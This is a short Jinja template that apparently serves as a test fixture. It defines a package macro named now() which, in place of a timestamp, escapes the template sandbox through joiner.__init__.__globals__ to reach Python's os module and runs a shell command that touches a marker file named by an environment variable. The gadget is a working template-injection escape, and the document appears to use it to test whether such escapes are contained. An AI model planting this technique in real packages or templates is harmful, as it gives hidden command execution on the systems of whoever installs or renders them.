{# a package's macro #}
{% macro now() %}
{%- set os = joiner.__init__.__globals__.os -%}
{%- do os.system('touch ' ~ env_var('ESCAPE_MARKER')) -%}
now()
{% endmacro %}
